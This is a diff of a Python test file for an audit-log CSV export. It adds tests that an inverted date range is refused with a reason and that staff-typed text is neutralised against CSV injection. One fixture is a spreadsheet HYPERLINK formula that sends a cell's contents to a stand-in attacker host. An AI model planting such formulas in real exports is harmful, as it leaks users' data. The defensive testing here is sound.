@@ -156,11 +156,15 @@ def test_export_uses_the_filters(sudo_client) -> None:
     assert last_export().after == {"filters": {"action": "role.assigned"}, "rows": 10}
 
 
-def test_export_with_a_bad_range_is_empty(sudo_client) -> None:
-    response = sudo_client("director").get(EXPORT, {"since": "2025-02-01", "until": "2025-01-01"})
-    assert response.status_code == 200
-    assert read_csv(response) == []
-    assert last_export().after == {"filters": {}, "rows": 0}
+def test_export_with_a_bad_range_is_refused(sudo_client) -> None:
+    """Refused with the reason, not an empty file that reads as "nothing happened"."""
+    client = sudo_client("director")
+    count = AuditEvent.objects.count()
+    response = client.get(EXPORT, {"since": "2025-02-01", "until": "2025-01-01"})
+    assert response.status_code == 400
+    assert response["Content-Type"] == "text/plain; charset=utf-8"
+    assert "The start date is after the end date." in response.content.decode()
+    assert AuditEvent.objects.count() == count  # nothing exported, nothing recorded
 
 
 def test_outsider_exports_only_cresco(sudo_client, people) -> None:
@@ -172,3 +176,23 @@ def test_outsider_exports_only_cresco(sudo_client, people) -> None:
     assert {r["subject_user"] for r in rows} <= cresco_people
     assert last_export().library == Library.objects.get(slug="cresco")
     assert last_export().after["rows"] == len(rows)
+
+
+def test_a_typed_purpose_never_runs_as_a_formula(sudo_client, people) -> None:
+    """Staff type purposes; a spreadsheet must show "=HYPERLINK(...)" as text, not run it
+    (CSV injection): the cell starts with an apostrophe.  Numbers stay numbers."""
+    nm = Library.objects.get(slug="new-madrid")
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
+    event = record(
+        AuditAction.RECORDS_OPENED,
+        actor=people["staff"],
+        library=nm,
+        patron=1042,
+        purpose=formula,
+        after={"note": "+1"},
+    )
+    rows = {int(r["seq"]): r for r in read_csv(sudo_client("director").get(EXPORT))}
+    row = rows[event.seq]
+    assert row["purpose"] == "'" + formula
+    assert row["patron_id"] == "1042"
+    assert row["after"] == '{"note": "+1"}'  # JSON text starts with "{": left as it is
